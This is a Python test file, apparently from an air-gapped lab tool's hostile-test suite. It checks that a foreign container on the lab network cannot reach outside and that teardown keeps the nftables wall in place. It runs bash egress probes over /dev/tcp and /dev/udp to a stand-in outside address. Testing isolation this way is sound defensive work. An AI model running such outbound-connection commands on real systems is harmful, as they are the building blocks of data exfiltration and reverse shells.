"""A11: a container that is not the lab's, on the lab's network: while the lab stands, and while it goes."""

from __future__ import annotations

from tests.hostile.checks import Result, result, unless
from tests.hostile.places import IMAGE, Ground, call
from tests.hostile.tripwire import Tripwire


def stranger(ground: Ground, wire: Tripwire) -> list[Result]:
    """A container that is not the lab's, on the lab's network."""
    name, network = f"stranger-{ground.topology.name}", ground.topology.network.name
    call("docker", "run", "-d", "--rm", "--name", name, "--network", network, IMAGE, "sleep", "600")
    script = (
        "echo x >/dev/udp/198.51.100.249/25960; timeout 2 bash -c 'echo x >/dev/tcp/198.51.100.249/25960'"
    )
    try:
        call("docker", "exec", name, "bash", "-c", script)
        left = {one.dst for one in wire.caught() if one.way == "left"}
        up = ground.up()
        return [
            result(
                "A11",
                "a stranger on the lab's network: nothing of it leaves",
                unless("198.51.100.249" not in left, "it left"),
            ),
            result(
                "A11",
                "a stranger on the lab's network: up still works",
                unless(up.returncode == 0, up.stderr[-300:]),
            ),
        ]
    finally:
        call("docker", "rm", "-f", name)


def down(ground: Ground, wire: Tripwire) -> list[Result]:
    """`lab down` with a stranger attached, then without: the wall goes last."""
    name, network = f"stranger-{ground.topology.name}", ground.topology.network.name
    call("docker", "run", "-d", "--rm", "--name", name, "--network", network, IMAGE, "sleep", "600")
    try:
        first = ground.lab("down")
        tables = ground.watcher("nft", "list", "tables").stdout
        script = "echo x >/dev/udp/198.51.100.248/25970"
        call("docker", "exec", name, "bash", "-c", script)
        left = {one.dst for one in wire.caught() if one.way == "left"}
    finally:
        call("docker", "rm", "-f", name)
    second = ground.lab("down")
    after = ground.watcher("nft", "list", "tables").stdout
    table = f"airgap_{ground.topology.name.replace('-', '_')}"
    things = call("docker", "ps", "-aq", "--filter", f"label=airgap-lab.name={ground.topology.name}").stdout
    return [
        result(
            "A11",
            "down with a stranger attached: exit 3",
            unless(first.returncode == 3, f"{first.returncode}"),
        ),
        result(
            "A11",
            "down with a stranger attached: it is named",
            unless(name in first.stderr, first.stderr[-300:]),
        ),
        result("A11", "down with a stranger attached: the wall stands", unless(table in tables, tables)),
        result(
            "A11",
            "down with a stranger attached: nothing of it leaves",
            unless("198.51.100.248" not in left, "it left"),
        ),
        result(
            "A11",
            "down without it leaves nothing",
            unless(
                second.returncode == 0 and not things and table not in after, second.stderr[-300:] + after
            ),
        ),
    ]
